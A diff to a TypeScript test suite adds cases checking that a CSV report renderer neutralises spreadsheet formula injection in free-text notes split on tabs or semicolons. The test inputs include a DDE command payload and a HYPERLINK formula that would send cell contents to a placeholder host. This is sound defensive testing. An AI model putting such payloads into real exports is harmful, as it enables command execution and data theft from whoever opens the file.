@@ -135,6 +135,12 @@ describe('report renderings', () => {
     // A spreadsheet set to split on ';' (German, French locales) starts a cell after each ';': defused there too.
     const semicolons = renderReportCsv({ ...report, devices: [{ ...report.devices[0]!, name: 'ok;=cmd|"/c calc"!A1; -2+3;@SUM(A1)' }] });
     expect(semicolons).toContain(`device,zone-5,zone,"ok;'=cmd|""/c calc""!A1; -2+3;'@SUM(A1)"`);
+    // An operator's note is free text: a spreadsheet told to split on tabs (LibreOffice's import offers it) starts
+    // a cell after each tab, whatever the quotes.
+    const tabs = renderReportCsv({ ...report, incidents: [{ ...report.incidents[0]!, note: 'all well\t=HYPERLINK("http://x.invalid/?"&A1)' }] });
+    expect(tabs).toContain(`,"all well\t'=HYPERLINK(""http://x.invalid/?""&A1)"`);
+    const twoTabs = renderReportCsv({ ...report, incidents: [{ ...report.incidents[0]!, note: 'all well\t\t=1+1;;@A1' }] });
+    expect(twoTabs).toContain(`,all well\t'\t'=1+1;;'@A1\r\n`);
   });
 
   it('HTML: self-contained and printable, with every configured text escaped', async () => {
